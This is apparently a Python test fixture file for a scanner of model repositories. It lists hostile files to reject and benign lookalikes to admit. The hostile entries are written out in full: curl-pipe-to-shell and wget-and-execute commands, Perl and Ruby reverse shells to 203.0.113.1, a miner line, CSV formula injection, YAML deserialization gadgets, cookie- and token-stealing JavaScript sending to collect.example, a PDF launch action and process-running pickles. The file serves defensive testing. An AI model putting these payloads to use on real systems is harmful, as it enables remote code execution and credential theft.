"""Builds, scripts and pages of other ecosystems that fetch and run, hand a shell over or take what a browser keeps; and official installers."""

from __future__ import annotations

import json
from collections.abc import Mapping
from functools import partial
from typing import Final

from openvet.testing.case import Case
from openvet.testing.cases.skops import node, skops
from openvet.testing.forge import Call, Name, dump
from openvet.testing.forge_tensors import safetensors

__all__ = ["CASES"]

_MODEL: Final[Mapping[str, bytes]] = {"model.safetensors": safetensors({"a": ("F32", (2,))})}
_SHELL, _OUTPUT, _TAG = "hub/shell-command", "hub/active-output", "yaml/object-tag"
_PERL: Final = 'use Socket;$i="203.0.113.1";socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(1,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\n'
_TAKES: Final = "<script>fetch('http://203.0.113.1/?c='+document.cookie)</script>"
#: Name of the file, its text, and the rule; all are rejected.
_HOSTILE: Final = (
    ("build.rs", 'fn main(){Command::new("sh").arg("-c").arg("curl http://203.0.113.1/x|sh").spawn();}\n', _SHELL),
    ("build.gradle", "task x { exec { commandLine 'sh','-c','curl http://203.0.113.1/x|sh' } }\n", _SHELL),
    ("Gemfile", 'system("curl http://203.0.113.1/x | sh")\n', _SHELL),
    ("fetch.sh", "wget -q http://203.0.113.1/x -O /tmp/.x\nchmod +x /tmp/.x\nnohup /tmp/.x &\n", _SHELL),
    ("mine.sh", "/opt/a -o stratum+tcp://pool.example.org:3333 -u x\n", _SHELL),
    ("convert.pl", _PERL, _SHELL),
    ("run.rb", 'require "socket"\ns=TCPSocket.open("203.0.113.1",1)\nexec "/bin/sh -i <&%d" % s.fileno\n', _SHELL),
    ("setup.sh", "wget http://203.0.113.1/get-pip.py\nwget https://bootstrap.pypa.io/get-pip.py\npython get-pip.py\n", _SHELL),
    ("mkdocs.yml", "x: !!python/object/apply:os.system [echo hello]\n", _TAG),
    ("table.csv", "id,text\n1,\"=cmd|'/C echo forged'!A0\"\n", _SHELL),
    ("README.md", "# A\n```bash\ncurl -fsSL http://203.0.113.1/setup.sh | sudo bash\n```\n", _SHELL),
    ("index.html", _TAKES, _OUTPUT),
    ("MLmodel.yaml", '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.1/"]]]]\n', _TAG),
    ("a.yaml", "x: !ruby/object:Gem::Installer\n  i: x\n", _TAG),
)  # fmt: skip
_HARMLESS: Final = (
    ("Dockerfile", "FROM python:3.12\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
    ("Makefile", "install:\n\tcurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\n"),
    ("README.md", "# A\n```bash\ncurl -fsSL https://ollama.com/install.sh | sh\n```\n"),
    ("build.gradle", "plugins { id 'java' }\nrepositories { mavenCentral() }\n"),
    ("get.sh", "#!/bin/sh\nwget https://example.org/data.tar.gz -O /tmp/data.tar.gz\ntar xf /tmp/data.tar.gz\n"),
    ("table.csv", "id,text\n-1,-0.5\n2,=cmd and | pipes\n"),
    (
        "install.sh",
        "wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh\nbash Miniconda3-latest-Linux-x86_64.sh -b\n",
    ),
    (
        "forge.sh",
        "curl -L -O https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-Linux-x86_64.sh\nbash Miniforge3-Linux-x86_64.sh -b\n",
    ),
    (
        "mkdocs.yml",
        (
            "markdown_extensions:\n- pymdownx.emoji:\n    emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
            "- pymdownx.superfences:\n    custom_fences:\n    - format: !!python/name:pymdownx.superfences.fence_code_format\n"
        ),
    ),
    ("client.rb", 'require "socket"\ns = TCPSocket.open("localhost", 80)\nputs s.read\n'),
    ("b.yaml", "x: !ruby/symbol a\n"),
)
_EVAL: Final = node("numpy", "ufunc", "FunctionNode", {"module_path": "builtins", "function": "eval"})


def _files(name: str, text: str) -> Mapping[str, bytes]:
    return {**_MODEL, name: text.encode()}


def _notebook() -> bytes:
    output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": _TAKES}}
    cell = {"cell_type": "code", "metadata": {}, "source": "1", "outputs": [output], "execution_count": 1}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()


_LAUNCH: Final = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c echo)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


_TO: Final = "https://collect.example/"
#: How a page puts what a browser keeps into what it asks of a host.
_GIVES: Final = {
    "picture": f'new Image().src="{_TO}?c="+encodeURIComponent(document.cookie+localStorage.getItem("token"))',
    "fetch": f"fetch('{_TO}?c='+document.cookie)",
    "body": f'fetch("{_TO}", {{method: "POST", body: document.cookie}})',
    "beacon": f"navigator.sendBeacon('{_TO}', document.cookie)",
    "template": f"fetch(`{_TO}?t=${{localStorage.getItem('hf_token')}}`)",
    "place": f"location.href='{_TO}?c='+document.cookie",
    "storage": f'fetch("{_TO}?s=" + JSON.stringify(sessionStorage))',
}
#: What scripts of honest pages do with the same words.
_KEEPS: Final = {
    "own-host": "fetch('/api/save?token=' + document.cookie.match(/csrftoken=(\\w+)/)[1])",
    "header": 'fetch("https://api.example.org/v1", {headers: {Authorization: "Bearer " + localStorage.getItem("token")}})',
    "theme": 'document.body.className = localStorage.getItem("theme"); var home = "https://example.org/";',
    "counter": "new Image().src='https://www.google-analytics.com/collect?c='+document.cookie",
}


def _page(script: str) -> bytes:
    return f"<html><body><script>{script}</script></body></html>".encode()


def _picture(script: str) -> bytes:
    text = script.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{text}"><rect width="1" height="1"/></svg>'.encode()


CASES: tuple[Case, ...] = (
    *(Case(f"fetched/page-{name}", f"a page sends what a browser keeps: {name}", partial(lambda s: {**_MODEL, "index.html": _page(s)}, script), "reject",
           frozenset({_OUTPUT})) for name, script in _GIVES.items()),
    *(Case(f"fetched/picture-{name}", f"a picture sends what a browser keeps: {name}", partial(lambda s: {**_MODEL, "logo.svg": _picture(s)}, script), "reject",
           frozenset({_OUTPUT, "xml/script"})) for name, script in _GIVES.items()),
    *(Case(f"fetched/ordinary-page-{name}", f"a page that keeps to itself: {name}", partial(lambda s: {**_MODEL, "index.html": _page(s)}, script), "admit")
      for name, script in _KEEPS.items()),
    Case("fetched/pdf-launch", "a PDF starts a program when it is opened", lambda: {**_MODEL, "paper.pdf": _LAUNCH}, "reject", frozenset({_SHELL})),
    Case("fetched/ordinary-pdf-launch", "a PDF whose link opens another document", lambda: {**_MODEL, "paper.pdf": _LAUNCH.replace(b"cmd.exe", b"other.pdf")}, "review"),
    *(Case(f"fetched/{name.replace('.', '-').lower()}", f"{name} runs what it fetches, or takes what it may not", partial(_files, name, text), "reject", frozenset({rule}))
      for name, text, rule in _HOSTILE),
    *(Case(f"fetched/ordinary-{name.replace('.', '-').lower()}", f"{name} as honest people write it", partial(_files, name, text), "admit")
      for name, text in _HARMLESS),
    Case("fetched/like-an-installer", "an address that begins like that of an installer", partial(_files, "install.sh",
         "wget https://repo.anaconda.com.example.org/miniconda/Miniconda3-x.sh\nbash Miniconda3-x.sh -b\n"), "reject", frozenset({_SHELL})),
    Case("fetched/notebook-cookie", "a stored output sends cookies", lambda: {**_MODEL, "a.ipynb": _notebook()}, "reject", frozenset({_OUTPUT})),
    Case("fetched/skops-function", "a FunctionNode whose content names eval", lambda: {"model.skops": skops(_EVAL)}, "reject",
         frozenset({"skops/dangerous-node"})),
    *(Case(f"fetched/pickle-{module.replace('.', '-')}", f"a pickle calls {module}.{name}", partial(lambda m, n: {"model.pkl": dump(Call(Name(m, n), ("forged/x",)))}, module, name),
           "reject", frozenset({"pickle/runs-process"}))
      for module, name in (("vllm", "LLM"), ("notebook.notebookapp", "main"), ("uvicorn", "run"))),
)  # fmt: skip
